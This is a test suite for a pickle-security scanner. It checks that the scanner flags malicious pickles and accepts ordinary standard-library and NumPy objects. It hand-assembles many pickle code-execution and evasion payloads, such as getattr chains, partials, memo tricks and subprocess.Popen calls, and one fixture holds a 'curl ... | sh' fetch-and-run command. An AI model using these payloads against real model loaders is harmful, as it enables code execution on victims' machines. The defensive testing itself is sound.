"""What a pickle runs is said in words; what honest pickles do is no alarm."""

from __future__ import annotations

import collections
import datetime
import decimal
import fractions
import functools
import operator
import pathlib
import pickle
import re
import types
import uuid
from typing import Any

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.inspect.assembler import (
    APPEND,
    BUILD,
    DICT,
    LIST,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    T1,
    call,
    judge,
    name,
    program,
    text,
    told,
    worst,
)

GETATTR = name("builtins", "getattr")
OS = call(name("builtins", "__import__"), text("os"))
IMPORTED = call(name("importlib", "import_module"), text("os"))
SYSTEM = name("os", "system")

TRICKS: dict[str, tuple[bytes, str, str]] = {
    "a plain call": (call(SYSTEM, text("id")), "critical", "os.system('id')"),
    "a chain of getattr": (
        call(call(GETATTR, OS, text("system")), text("id")),
        "critical",
        "getattr(__import__('os'), 'system')('id')",
    ),
    "a chain with import_module": (
        call(call(GETATTR, IMPORTED, text("system")), text("id")),
        "critical",
        "getattr(importlib.import_module('os'), 'system')('id')",
    ),
    "attrgetter": (
        call(call(call(name("operator", "attrgetter"), text("system")), OS), text("id")),
        "critical",
        "operator.attrgetter('system')(__import__('os'))('id')",
    ),
    "methodcaller": (
        call(call(name("operator", "methodcaller"), text("system"), text("id")), OS),
        "critical",
        "operator.methodcaller('system', 'id')(__import__('os')): this calls os.system",
    ),
    "a partial": (
        call(call(name("functools", "partial"), SYSTEM, text("id"))),
        "critical",
        "functools.partial(os.system, 'id')()",
    ),
    "the state of a partial": (
        call(name("functools", "partial"), name("builtins", "int"))
        + b"("
        + SYSTEM
        + b"("
        + text("id")
        + b"t"
        + DICT
        + b"Nt"
        + BUILD,
        "critical",
        "functools.partial(os.system)",
    ),
    "map": (
        call(name("builtins", "map"), SYSTEM, LIST + text("id") + APPEND),
        "critical",
        "map(os.system, ['id'])",
    ),
    "a factory": (
        call(name("collections", "defaultdict"), SYSTEM),
        "critical",
        "collections.defaultdict(os.system)",
    ),
    "a dotted name": (call(name("logging", "os.system"), text("id")), "critical", "logging.os.system('id')"),
    "a dotted name to the modules": (
        name("collections", "abc.sys.modules"),
        "high",
        "collections.abc.sys.modules",
    ),
    "a dotted name to the globals": (
        name("logging", "Logger.__init__.__globals__"),
        "high",
        "logging.Logger.__init__.__globals__",
    ),
    "getattr to the subclasses": (
        call(GETATTR, name("uuid", "UUID"), text("__subclasses__")),
        "high",
        "getattr(uuid.UUID, '__subclasses__')",
    ),
    "a name out of the memo, in another order": (
        text("system")
        + MEMOIZE
        + text("posix")
        + MEMOIZE
        + b"h\1h\0"
        + STACK_GLOBAL
        + text("id")
        + T1
        + REDUCE,
        "critical",
        "posix.system('id')",
    ),
    "a computed name": (
        text("os") + call(call(GETATTR, text(""), text("join")), LIST + text("sys") + APPEND) + STACK_GLOBAL,
        "high",
        "'os'.getattr('', 'join')(['sys'])",
    ),
    "arguments out of the memo": (
        text("id") + T1 + MEMOIZE + b"0" + SYSTEM + b"h\0" + REDUCE,
        "critical",
        "os.system('id')",
    ),
    "INST": (b"(" + text("id") + b"ios\nsystem\n", "critical", "os.system('id')"),
    "OBJ": (b"(" + SYSTEM + text("id") + b"o", "critical", "os.system('id')"),
    "NEWOBJ_EX": (
        name("subprocess", "Popen") + b")" + DICT + text("args") + text("id") + SETITEM + NEWOBJ_EX,
        "critical",
        "subprocess.Popen(**{'args': 'id'})",
    ),
    "an extension": (b"\x82\5" + T1 + b"0N", "high", "extension code 5"),
    "the state of a global": (
        name("mypackage", "settings") + DICT + text("debug") + b"\x88" + SETITEM + BUILD,
        "high",
        "sets attributes of mypackage.settings: {'debug': True}",
    ),
    "a hook in a state": (
        name("mypackage", "Model") + b")" + NEWOBJ + DICT + text("__setstate__") + SYSTEM + SETITEM + BUILD,
        "critical",
        "mypackage.Model() holding os.system",
    ),
    "a class in a state": (
        name("mypackage", "Model") + b")" + NEWOBJ + DICT + text("__class__") + text("x") + SETITEM + BUILD,
        "high",
        "sets __class__: {'__class__': 'x'}",
    ),
    "items put into a global": (
        name("sys", "path") + text("/tmp/x") + APPEND,
        "high",
        "puts items into sys.path: ('/tmp/x',)",
    ),
    "a class made on the way": (
        call(name("builtins", "type"), text("X"), b")", DICT),
        "high",
        "type('X', (), {}): it makes a class",
    ),
    "an instance by copyreg": (
        call(name("copyreg", "__newobj__"), name("subprocess", "Popen"), text("id")),
        "critical",
        "copyreg.__newobj__(subprocess.Popen, 'id')",
    ),
    "torch bytes that only a run would tell": (
        call(name("torch.storage", "_load_from_bytes"), call(name("base64", "b64decode"), text("gASVAAAA"))),
        "high",
        "torch.storage._load_from_bytes(base64.b64decode('gASVAAAA'))",
    ),
    "a user's function with a command": (
        call(name("mypackage.tools", "run"), text("curl http://example.invalid/x | sh")),
        "high",
        "mypackage.tools.run('curl http://example.invalid/x | sh')",
    ),
    "a call of what a call returned": (
        call(call(name("builtins", "dict"), LIST)),
        "high",
        "dict([])()",
    ),
    "arguments behind many others": (
        SYSTEM + b"(" + text("id") + b"K\1" * 100_000 + b"t" + REDUCE,
        "critical",
        "os.system('id'",
    ),
    "a call deep under the stack": (
        text("posix")
        + text("system")
        + b"K\1" * 100_000
        + b"0" * 100_000
        + STACK_GLOBAL
        + text("id")
        + T1
        + REDUCE,
        "critical",
        "posix.system('id')",
    ),
    "a number as only the C unpickler reads it": (
        b"I0x10\n0" + call(SYSTEM, text("id")),
        "critical",
        "os.system('id')",
    ),
}


@pytest.mark.parametrize("trick", TRICKS)
def test_what_would_run_is_said(trick: str) -> None:
    body, severity, evidence = TRICKS[trick]
    walk, rulings = judge(program(body))
    assert walk.stopped
    assert worst(rulings) == severity
    assert any(evidence in ruling.evidence for ruling in rulings), told(program(body))


HONEST: dict[str, bytes] = {
    "getattr of an enumeration": call(GETATTR, name("mypackage.config", "Strategy"), text("STEPS")),
    "an enumeration": call(name("mypackage.config", "Strategy"), text("steps")),
    "a model of another package": name("ultralytics.nn.tasks", "DetectionModel")
    + b")"
    + NEWOBJ
    + DICT
    + BUILD,
    "a state of pydantic": name("mypackage", "Settings")
    + b")"
    + NEWOBJ
    + DICT
    + text("__dict__")
    + DICT
    + SETITEM
    + text("__pydantic_fields_set__")
    + b"\x8f"
    + SETITEM
    + BUILD,
    "an instance by copyreg": call(
        name("copyreg", "_reconstructor"), name("mypackage", "Model"), name("builtins", "object"), b"N"
    ),
    "a partial of a user's class": call(name("functools", "partial"), name("mypackage", "Head"), b"K\1"),
    "a path of a user's class": call(name("mypackage", "Data"), text("https://example.invalid/data.csv")),
    "a tensor": call(
        name("torch._utils", "_rebuild_tensor_v2"),
        text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + b"K\1" + b"N",
        b"K\0",
        b"K\1" + T1,
        b"K\1" + T1,
        b"\x89",
        call(name("collections", "OrderedDict")),
    ),
}


@pytest.mark.parametrize("what", HONEST)
def test_what_honest_writers_do_is_no_alarm(what: str) -> None:
    walk, rulings = judge(program(HONEST[what]))
    assert walk.stopped
    assert worst(rulings) in ("none", "low"), rulings


_OBJECTS: list[Any] = [
    collections.OrderedDict(a=1),
    collections.defaultdict(list, a=[1]),
    collections.Counter("abc"),
    collections.deque([1, 2]),
    uuid.UUID(int=7),
    datetime.datetime(2026, 1, 2, tzinfo=datetime.UTC),
    datetime.timedelta(3),
    pathlib.PurePosixPath("/tmp/x"),
    re.compile("a|b"),
    functools.partial(int, base=2),
    operator.attrgetter("name"),
    operator.itemgetter(1),
    operator.methodcaller("strip"),
    "".join,
    str.lower,
    1j,
    range(3),
    slice(1),
    bytearray(b"x" * 30),
    decimal.Decimal("1.5"),
    fractions.Fraction(1, 3),
    types.SimpleNamespace(a=1),
    ValueError("x"),
    np.arange(7),
    np.float64(1.5),
    np.array(["a", None], dtype=object),
    np.zeros(3, dtype=[("a", "f4"), ("b", "i8")]),
    np.random.RandomState(0),
    np.random.default_rng(0),
]


@pytest.mark.parametrize("protocol", range(6))
@pytest.mark.parametrize("value", _OBJECTS, ids=lambda value: type(value).__name__)
def test_objects_of_the_standard_library_and_numpy_are_no_alarm(value: Any, protocol: int) -> None:
    try:
        data = pickle.dumps(value, protocol)
    except (TypeError, pickle.PicklingError):
        pytest.skip("cannot be pickled so")
    walk, rulings = judge(data)
    assert walk.stopped
    assert walk.tidy
    assert walk.odd == {}
    assert worst(rulings) in ("none", "low"), rulings


_PLAIN = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text()
    | st.binary()
    | st.complex_numbers()
    | st.dates()
    | st.uuids()
    | st.decimals()
    | st.fractions(),
    lambda inner: (
        st.lists(inner)
        | st.dictionaries(st.text(), inner)
        | st.tuples(inner, inner)
        | st.lists(inner).map(collections.deque)
    ),
)


@settings(max_examples=200)
@given(_PLAIN, st.integers(0, 5))
def test_random_values_are_no_alarm(value: Any, protocol: int) -> None:
    walk, rulings = judge(pickle.dumps(value, protocol))
    assert walk.stopped
    assert walk.tidy
    assert walk.odd == {}
    assert worst(rulings) in ("none", "low")


@settings(max_examples=500)
@given(st.binary(max_size=400))
def test_any_bytes_get_an_answer(data: bytes) -> None:
    walk, rulings = judge(data, 10_000)
    assert walk.end <= len(data)
    assert walk.stopped or walk.broken
    assert all(len(ruling.evidence) < 1_000 and ruling.evidence.isprintable() for ruling in rulings)


def test_what_ran_before_the_break_counts() -> None:
    for cut in (b"", b"\xff", b"R" * 10, b"\x95\xff\0\0\0\0\0\0\0"):
        walk, rulings = judge(program(call(SYSTEM, text("id")))[:-1] + cut)
        assert walk.broken
        assert worst(rulings) == "critical"


def test_a_known_name_is_not_told() -> None:
    assert judge(program(call(name("collections", "OrderedDict"))))[1] == []


def test_arguments_are_clipped_and_printable() -> None:
    body = call(name("builtins", "eval"), text("x\u202e\n" * 5_000))
    (ruling,) = judge(program(body))[1]
    assert len(ruling.evidence) <= 300
    assert ruling.evidence.isprintable()


def test_the_arguments_make_two_calls_two_findings() -> None:
    body = call(SYSTEM, text("id")) + b"0" + call(SYSTEM, text("ls"))
    assert told(program(body)) == [("critical", "os.system('id')"), ("critical", "os.system('ls')")]
